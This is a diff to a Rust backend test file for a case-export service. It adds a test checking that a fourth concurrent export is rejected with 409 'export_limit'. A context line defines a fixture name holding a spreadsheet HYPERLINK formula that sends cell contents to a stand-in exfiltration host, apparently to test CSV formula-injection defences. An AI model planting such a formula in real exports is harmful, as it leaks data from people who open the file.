@@ -48,6 +48,7 @@ backend_tests!(
     csv_export_reimports_unchanged,
     stalled_export_fails_as_interrupted,
     bangla_reader_gets_bangla_labels,
+    fourth_running_export_rejected,
 );
 
 const FULL_NAME: &str = "=HYPERLINK(\"http://exfil.invalid/?d=\"&A2,\"open file\")";
@@ -747,4 +748,36 @@ async fn bangla_reader_gets_bangla_labels(backend: Backend) {
     assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
     let message = error["error"]["message"].as_str().unwrap();
     assert!(message.contains("৮ থেকে ১২৮টি অক্ষর"), "{message}");
+}
+
+/// Checks that a user with three exports still running gets 409 `export_limit` for a fourth,
+/// while another user may still export.
+async fn fourth_running_export_rejected(backend: Backend) {
+    let fixture = fixture(backend).await;
+    let app = &fixture.app;
+    let user = app.state.store.user_by_username("cw.rahima").await.unwrap().unwrap();
+    let now = time::OffsetDateTime::now_utc();
+    for _ in 0..3 {
+        let running = sathi_store::NewExport {
+            id: sathi_store::ExportId(uuid::Uuid::now_v7()),
+            owner_id: user.id,
+            format: "csv".to_owned(),
+            file_name: "sathi-cases.csv".to_owned(),
+            content_type: "text/csv; charset=utf-8".to_owned(),
+            password_protected: false,
+            now,
+            expires_at: now + time::Duration::hours(24),
+        };
+        app.state.store.create_export(&running).await.expect("storing the export failed");
+    }
+
+    let (status, error) =
+        send(fixture.rahima.post(app.api("/exports")).json(&json!({"format": "csv"}))).await;
+    assert_eq!(status, StatusCode::CONFLICT, "{error}");
+    assert_eq!(error["error"]["code"], "export_limit");
+    let (_, list) = send(fixture.rahima.get(app.api("/exports"))).await;
+    assert_eq!(list.as_array().unwrap().len(), 3, "the rejected request made an export");
+
+    let view = export_ready(app, &fixture.karim, json!({"format": "csv"})).await;
+    assert_eq!(view["state"], "ready");
 }
